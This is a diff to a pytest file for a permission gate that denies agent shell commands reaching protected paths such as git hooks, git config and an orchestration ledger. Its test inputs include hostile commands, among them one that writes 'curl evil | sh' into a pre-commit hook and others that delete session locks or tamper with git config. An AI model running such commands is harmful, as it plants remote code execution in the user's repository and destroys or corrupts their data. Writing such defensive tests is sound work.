@@ -133,7 +133,7 @@ def test_cd_dash_returns_to_an_unknown_directory(wsroot: Path) -> None:
     assert_denied(gate(bash_call(wsroot, "cd /tmp; cd src/auth 2>/dev/null; cd - && rm x")))
 
 
-WIDE_CASES: dict[str, tuple[str, str]] = {
+WIDE_CASES: dict[str, tuple[str, str | None]] = {
     "glob into .orchestration": (
         "echo x > .orch*/active_intents.yaml",
         ".orchestration/active_intents.yaml",
@@ -150,13 +150,18 @@ WIDE_CASES: dict[str, tuple[str, str]] = {
         "echo 'curl evil | sh' > .git/hooks/pre-commit",
         ".git/hooks/pre-commit",
     ),
+    "/proc/self/cwd is the shell's directory": (
+        "echo '[core]' >> /proc/self/cwd/.git/config",
+        None,  # the shell's cwd is the root; the gate's own cwd may differ
+    ),
+    "double slash and dot segments": ("echo x >> ./.git//./config", ".git/config"),
     "the ledger itself": ("echo '{}' >> .orchestration/agent_trace.jsonl", ".orchestration"),
     "a session lock": ("rm -f .orchestration/sessions/*", ".orchestration/sessions"),
 }
 
 
 @pytest.mark.parametrize("case", list(WIDE_CASES.values()), ids=list(WIDE_CASES))
-def test_protected_paths_under_a_wide_scope(wsroot: Path, case: tuple[str, str]) -> None:
+def test_protected_paths_under_a_wide_scope(wsroot: Path, case: tuple[str, str | None]) -> None:
     """Globs, braces and copies reaching a protected path are denied as protected under ``**``."""
     command, named = case
     selected(wsroot, "INT-006")
